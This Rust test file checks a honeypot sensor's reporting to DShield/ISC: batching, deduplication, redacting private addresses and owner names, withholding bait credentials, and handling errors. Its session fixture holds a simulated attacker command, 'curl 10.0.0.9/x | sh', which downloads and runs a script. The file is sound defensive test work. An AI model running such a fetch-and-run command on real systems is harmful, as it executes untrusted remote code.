//! DShield: what ISC gets, and what it never gets. The events are stored before the sensor starts,
//! because everybody who can touch it here has a private address.

use std::fs;
use std::time::Instant;

use serde_json::{Value as Json, json};
use serin_event::{Event, Record, Timestamp, Value, kinds};
use serin_store::{Options, Reader, Store};
use serin_tests::{Receiver, Reply, Sensor, Setup, eventually};

use super::isc::{APIKEY, EMAIL, Isc, PUBLIC, USERID, within_floor};
use super::{store, store_at, stranger as source, strangers as event};

/// A public address that nobody has since RFC 7526.
const TARGET: &str = "192.88.99.250";

/// Of a password that nobody tries here.
const HASH: &str =
    "$6$saltsalt$4moPPSO5VZoBaL5AKKOfNWtvvph0ts9YxUVkrRtjwyYuVxOpIA.FCsOgtO578DYq1Wy1b4uiNfxY2SlU0MT2b/";

fn logins(count: usize) -> Vec<Record> {
    (1..=count).map(|it| event(&kinds::SSH_LOGIN, &source(it), "10.0.0.1")).collect()
}

fn settings(isc: &Isc, more: &Json) -> Json {
    let mut settings = json!({
        "type": "dshield", "userid": USERID, "apikey": APIKEY, "url": isc.url(), "start": "beginning",
    });
    settings.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    settings
}

/// A sensor with these events in its store, that reports to this ISC.
fn reporting(isc: &Isc, records: Vec<Record>, more: &Json) -> Sensor {
    let setup = Setup::of(&["ftp"]);
    store(&setup, records);
    setup.output("isc", settings(isc, more)).start()
}

fn ask(sensor: &Sensor, arguments: &[&str]) -> String {
    let config = sensor.config().display().to_string();
    let said = sensor.ask(&[arguments, &["--config", &config]].concat());
    assert!(!said.words().contains(APIKEY), "{}", said.words());
    said.words()
}

fn status(sensor: &Sensor) -> Json {
    let said = ask(sensor, &["outputs", "status", "--json"]);
    let all: Json = serde_json::from_str(&said).unwrap_or_else(|_| panic!("{said}"));
    all.as_array().unwrap().iter().find(|it| it["name"] == "isc").unwrap().clone()
}

/// Returns when the output has read what it has to post.
fn waiting(sensor: &Sensor) {
    eventually("rows to wait", || Some(()).filter(|()| status(sensor)["lag_events"].as_u64() > Some(0)));
}

#[test]
fn isc_gets_logins_once_and_in_one_post_whatever_happens_to_the_sensor() {
    let isc = Isc::start([]);
    let mut records = logins(100);
    records.extend(["10.0.0.7", "127.0.0.1", "203.0.113.9"].map(|it| event(&kinds::SSH_LOGIN, it, TARGET)));
    records.push(Record { honeycred: Some(true), ..event(&kinds::SSH_LOGIN, &source(200), TARGET) });
    records.push(event(&kinds::HTTP_GET, &source(201), TARGET));
    records.push(event(&kinds::SSH_LOGIN, &source(230), TARGET));
    let began = Instant::now();
    let mut sensor = reporting(&isc, records, &json!({ "admin_nets": ["192.88.99.224/28"] }));
    let post = eventually("a post", || isc.posts().pop());
    assert_eq!((post.kind.as_str(), post.rows.len()), ("cowrie", 100));
    assert_eq!((&post.rows[7]["user"], &post.rows[7]["password"]), (&json!("root"), &json!("pa\"ss\u{e4}")));
    assert!(isc.sources().iter().all(|(_, rows)| *rows == 1) && isc.sources().len() == 100);
    let receipt = eventually("ISC's word", || {
        let receipt = status(&sensor)["receipt"].as_str()?.to_owned();
        receipt.starts_with("ISC confirmed 100 rows (100 cowrie)").then_some(receipt)
    });
    assert!(
        receipt.contains(": OK ") && receipt.contains(" Bytes received; withheld: 1 bait credentials, "),
        "{receipt}"
    );
    assert!(
        receipt.ends_with(
            "1 documentation address, 1 in admin_nets, 1 own address, \
             100 private destination without replace_honeypot_ip, 1 private or special address"
        ),
        "{receipt}"
    );
    assert!(ask(&sensor, &["outputs", "status"]).contains("ISC confirmed 100 rows"));
    assert!(sensor.said().contains("ISC may publish them"), "{}", sensor.said());

    // The web request waits for its time, also while the sensor stops, starts, is killed and starts.
    sensor.stop();
    sensor.start();
    assert!(!sensor.said().contains("ISC may publish them"), "told once");
    sensor.crash();
    sensor.start();
    eventually("the output's return", || Some(()).filter(|()| status(&sensor)["lag_events"] != 0));
    sensor.stop();
    assert!(within_floor(began), "this machine is too slow to tell");
    assert_eq!((isc.posts().len(), isc.requests()), (1, 1));
    assert_eq!(isc.refused(), Vec::<String>::new());
    isc.assert_manners();
    assert!(!sensor.said().contains(APIKEY));
}

#[test]
fn a_stop_posts_what_waits_of_opencanarys_handler() {
    let isc = Isc::start([]);
    let setup = Setup::of(&["ftp"]);
    let mut records = vec![event(&kinds::HTTP_GET, &source(1), "10.0.0.5")];
    records.push(event(&kinds::HTTP_GET, &source(2), "192.168.1.5"));
    records.push(event(&kinds::FTP_LOGIN, &source(3), "10.0.0.5"));
    store(&setup, records);
    let handlers = json!({
        "file": { "class": "logging.FileHandler", "filename": setup.folder().join("log.json") },
        "isc": {
            "class": "opencanary.logger.DShieldHandler", "dshield_userid": USERID.to_string(),
            "dshield_authkey": APIKEY, "allowed_ports": "80,443", "dshield_url": isc.url(),
            "start": "beginning", "replace_honeypot_ip": TARGET, "honeypot_ip": "10.0.0.0/8",
        },
    });
    let mut sensor =
        setup.with("logger", json!({ "class": "PyLogger", "kwargs": { "handlers": handlers } })).start();
    waiting(&sensor);
    assert_eq!(isc.requests(), 0);
    sensor.stop();
    let posts = isc.posts();
    assert_eq!(posts.len(), 1, "{posts:?}");
    assert_eq!((posts[0].kind.as_str(), posts[0].rows.len()), ("webhoneypot", 1));
    let row = &posts[0].rows[0];
    assert_eq!(
        (&row["sip"], &row["dip"], &row["url"]),
        (&json!(source(1)), &json!(TARGET), &json!("/wp-login.php"))
    );
    isc.assert_manners();
}

#[test]
fn packets_and_connections_are_firewall_rows() {
    let isc = Isc::start([]);
    let mut records: Vec<_> = (0..3).map(|_| event(&kinds::FTP_LOGIN, &source(1), TARGET)).collect();
    records.push(event(&kinds::SNMP_REQUEST, &source(2), TARGET));
    records.push(event(&kinds::FTP_LOGIN, "2a01:4f8::1", "2a01:4f8:1:2::3"));
    let mut sensor = reporting(&isc, records, &json!({ "anonymize_v6": 32 }));
    waiting(&sensor);
    sensor.stop();
    let posts = isc.posts();
    assert_eq!(posts.len(), 1);
    let told: Vec<_> =
        posts[0].rows.iter().map(|it| (&it["sip"], &it["proto"], &it["flags"], &it["version"])).collect();
    let (one, two) = (json!(source(1)), json!(source(2)));
    assert_eq!(
        told,
        [
            (&one, &json!(6), &json!("S"), &json!(4)),
            (&two, &json!(17), &json!(""), &json!(4)),
            (&json!("2a01:4f8::1"), &json!(6), &json!("S"), &json!(6)),
        ]
    );
    assert_eq!(posts[0].rows[2]["dip"], "2a01:4f8::");
    isc.assert_manners();
}

/// What the sensor noted of its posts happened two minutes earlier.
fn let_time_pass(sensor: &Sensor) {
    const TIME: i64 = 120_000_000;
    let path = sensor.config().parent().unwrap().join("state/serin.db");
    let (mut store, _) = Store::open(&Options::new(path.clone())).unwrap();
    let mut readers = Reader::open(&path).unwrap().readers().unwrap();
    let reader = readers.iter_mut().find(|it| it.name == "isc").unwrap();
    let mut status: Json = serde_json::from_str(&reader.status).unwrap();
    let mut memory: Json = serde_json::from_str(status["memory"].as_str().unwrap()).unwrap();
    memory["posted"] = json!(memory["posted"].as_i64().unwrap() - TIME);
    status["memory"] = json!(memory.to_string());
    reader.status = status.to_string();
    store.save_readers(std::slice::from_ref(reader)).unwrap();
}

#[test]
fn a_web_request_is_a_row_and_its_connection_another_once_each() {
    let isc = Isc::start([]);
    let mut records: Vec<_> = (0..2).map(|_| event(&kinds::HTTP_GET, &source(1), TARGET)).collect();
    let time = records[0].time;
    records[1].time = time;
    let mut sensor = reporting(&isc, records, &json!({}));
    waiting(&sensor);
    sensor.stop();
    assert_eq!(isc.posts().len(), 1);
    assert_eq!((isc.posts()[0].kind.as_str(), isc.posts()[0].rows.len()), ("webhoneypot", 2));

    // The connection's row waits, also across a crash and a stop within the minute.
    sensor.start();
    waiting(&sensor);
    sensor.crash();
    sensor.start();
    waiting(&sensor);
    sensor.stop();
    assert_eq!(isc.requests(), 1);
    let_time_pass(&sensor);
    sensor.start();
    waiting(&sensor);
    sensor.stop();
    let posts = isc.posts();
    assert_eq!((posts.len(), posts[1].kind.as_str(), posts[1].rows.len()), (2, "firewall", 1));
    let row = &posts[1].rows[0];
    assert_eq!(
        (&row["sip"], &row["dip"], &row["dport"], &row["flags"]),
        (&json!(source(1)), &json!(TARGET), &json!("80"), &json!("S"))
    );

    // Another request of that minute comes late: its connection was told.
    let late = Record { time, ..event(&kinds::HTTP_GET, &source(1), TARGET) };
    store_at(sensor.config().parent().unwrap(), vec![late]);
    let_time_pass(&sensor);
    sensor.start();
    waiting(&sensor);
    sensor.stop();
    let posts = isc.posts();
    assert_eq!((posts.len(), posts[2].kind.as_str(), posts[2].rows.len()), (3, "webhoneypot", 1));
    sensor.start();
    eventually("nothing to wait", || Some(()).filter(|()| status(&sensor)["lag_events"] == 0));
    assert_eq!(isc.requests(), 3);
    isc.assert_contents();
}

/// A session of SSH: two logins, and what was done after the second.
fn session() -> Vec<Record> {
    let command = |text: &'static str| {
        let made = Event::new(&kinds::SSH_REQUEST).with("REQUEST", "exec").with("COMMAND", text);
        let Record { kind, logdata, .. } = Record::of(&made, Timestamp(0), 0, "");
        Record { kind, logdata, ..event(&kinds::SSH_CONNECTION, &source(1), "10.0.0.5") }
    };
    let login = || event(&kinds::SSH_LOGIN, &source(1), "10.0.0.5");
    let all = vec![login(), login(), command("uname -a"), command("curl 10.0.0.9/x | sh")];
    all.into_iter().map(|it| Record { session: 7, ..it }).collect()
}

#[test]
fn a_login_tells_the_last_command_of_its_session_and_a_private_host_is_left_out() {
    let isc = Isc::start([]);
    let mut sensor = reporting(&isc, session(), &json!({}));
    waiting(&sensor);
    sensor.crash();
    sensor.start();
    waiting(&sensor);
    sensor.stop();
    let posts = isc.posts();
    assert_eq!((posts.len(), posts[0].kind.as_str()), (1, "cowrie"));
    let told: Vec<_> = posts[0].rows.iter().map(|it| it["lastcommand"].as_str().unwrap()).collect();
    assert_eq!(told, ["", "curl …/x | sh"]);
    isc.assert_manners();
}

/// A web request that names whatever is ours.
fn telling() -> Record {
    let headers = [
        "Host: 192.88.99.250:8080",
        "X-Forwarded-For: 192.88.99.1, 10%2E0.0.9",
        "Referer: https://www.Corp.example/",
    ];
    let made = Event::new(&kinds::HTTP_LOGIN)
        .with("PATH", "/a?u=http%3A%2F%2F192.88.99.250%2F~jsmith")
        .with("METHOD", "POST")
        .with("BODY", "user=jsmith&host=10%252E0%252E0%252E5&from=192.88.99.1")
        .with("HEADERS", Value::List(headers.map(Into::into).to_vec()));
    let Record { logdata, details, .. } = Record::of(&made, Timestamp(0), 0, "");
    let honeycred = Some(false);
    Record { logdata, details, honeycred, ..event(&kinds::HTTP_LOGIN, &source(1), "10.0.0.5") }
}

#[test]
fn what_is_ours_stays_with_us_also_where_a_visitor_wrote_it() {
    let isc = Isc::start([]);
    let setup = Setup::of(&["ftp"]);
    // Bait whose check took too long has no verdict.
    store(&setup, vec![event(&kinds::SSH_LOGIN, &source(2), TARGET), telling()]);
    let more = json!({
        "replace_honeypot_ip": "auto", "public_address": TARGET, "own_names": ["corp.example", "jsmith"],
    });
    let bait = json!([{ "username": "root", "password": HASH }]);
    let mut sensor = setup.with("ssh.honeycreds", bait).output("isc", settings(&isc, &more)).start();
    let receipt = eventually("a receipt", || status(&sensor)["receipt"].as_str().map(str::to_owned));
    assert_eq!(receipt, "ISC confirmed 0 rows; withheld: 1 credentials not checked for bait");
    sensor.stop();
    let posts = isc.posts();
    assert_eq!((posts.len(), isc.asked_for_address()), (1, 1));
    assert_eq!((posts[0].kind.as_str(), posts[0].rows.len()), ("webhoneypot", 1));
    let row = &posts[0].rows[0];
    assert_eq!((&row["sip"], &row["dip"]), (&json!(source(1)), &json!(PUBLIC)));
    assert_eq!(
        (&row["url"], &row["data"]),
        (&json!("/a?u=http://…/~…"), &json!("user=…&host=…&from=192.88.99.1"))
    );
    assert_eq!(
        row["headers"],
        json!({ "Host": "…", "X-Forwarded-For": "192.88.99.1, …", "Referer": "https://www.…/" })
    );
    isc.assert_manners();
}

/// The state of the output after its first post, which ends like this.
fn after(isc: &Isc, more: &Json, state: &str) -> Json {
    let sensor = reporting(isc, logins(100), more);
    eventually("a post", || Some(()).filter(|()| isc.requests() == 1));
    let status = eventually(state, || Some(status(&sensor)).filter(|it| it["state"] == state));
    assert_eq!((&status["sent"], &status["rejected"]), (&json!(0), &json!(0)));
    drop(sensor);
    assert_eq!(isc.requests(), 1, "tried again within the minute");
    isc.assert_manners();
    status
}

#[test]
fn a_wrong_key_is_held_although_isc_answers_200() {
    let isc = Isc::start([]);
    let status = after(&isc, &json!({ "apikey": "wrongkey" }), "hold");
    assert_eq!(status["last_error"], "ISC says: ERROR: credentials do not match");
    assert_eq!(isc.refused(), ["credentials do not match"]);
}

#[test]
fn a_wrong_address_is_held_and_redirects_are_not_followed() {
    let isc = Isc::start([]);
    let wrong = isc.url().replace("submitapi", "submit");
    let status = after(&isc, &json!({ "url": wrong }), "hold");
    assert_eq!(status["last_error"], "the address answers with a web page: it is not the submit API");

    let elsewhere = Receiver::start(|_| Reply::new(200, "OK"));
    let isc = Isc::start([Reply::new(302, "").header("Location", &elsewhere.url("/submitapi/"))]);
    let status = after(&isc, &json!({}), "hold");
    assert!(status["last_error"].as_str().unwrap().contains("redirects are not followed"), "{status}");
    assert!(elsewhere.seen().is_empty());
}

#[test]
fn a_busy_isc_is_left_alone_and_a_post_without_an_answer_is_noted() {
    let isc = Isc::start([Reply::new(429, "slow down").header("Retry-After", "300")]);
    let status = after(&isc, &json!({}), "backing-off");
    assert_eq!(status["last_error"], "HTTP 429: slow down");

    let isc = Isc::start([Reply::cut()]);
    let status = after(&isc, &json!({}), "backing-off");
    assert!(status["receipt"].as_str().unwrap().contains("100 posted without an answer"), "{status}");
}

#[test]
fn a_file_of_iscs_own_honeypot_is_enough_and_the_account_can_be_checked() {
    let isc = Isc::start([]);
    let setup = Setup::of(&["ftp"]);
    let ini = setup.folder().join("dshield.ini");
    fs::write(
        &ini,
        format!("[DShield]\nuserid={USERID}\napikey={APIKEY}\nemail={EMAIL}\npiid=00112233445566778899\n"),
    )
    .unwrap();
    store(&setup, logins(100));
    let settings = json!({
        "type": "dshield", "ini": ini, "url": isc.url(), "check_url": isc.check_url(), "start": "beginning",
    });
    let sensor = setup.output("isc", settings).start();
    eventually("a post", || Some(()).filter(|()| isc.posts().len() == 1));
    assert!(status(&sensor)["warning"].as_str().unwrap_or_default().ends_with("use chmod 640"));
    let told = ask(&sensor, &["outputs", "dshield-check", "isc"]);
    assert_eq!(
        told,
        "isc: ISC knows the account 12345; last logins 2026-11-22 07:00:00, last web requests never, last \
         firewall rows never\n"
    );
    isc.assert_manners();
}

#[test]
fn under_test_nobody_but_this_machine_can_be_reported_to() {
    for settings in [
        json!({ "type": "dshield", "userid": 1, "apikey": "abc=" }),
        json!({ "type": "abuseipdb", "apikey": "abc" }),
        json!({ "type": "misp", "url": "https://misp.example/", "apikey": "abcd" }),
        json!({ "type": "crowdsec", "url": "https://lapi.example/", "machine_id": "x", "password": "abcd" }),
    ] {
        let setup = Setup::of(&["ftp"]);
        let path = setup.folder().join("serin.conf");
        let conf = json!({ "device.node_id": "x", "outputs.it": settings });
        fs::write(&path, conf.to_string()).unwrap();
        let (program, path) = (serin_tests::binary().display().to_string(), path.display().to_string());
        let arguments = ["SERIN_TEST=1", &program, "check", "--config", &path];
        let said = serin_tests::client_in(setup.folder(), "env", &arguments, "");
        assert_ne!(said.status, 0);
        let why = "SERIN_TEST=1 forbids to report to anybody but this machine";
        assert!(said.words().contains(why), "{}", said.words());
    }
}
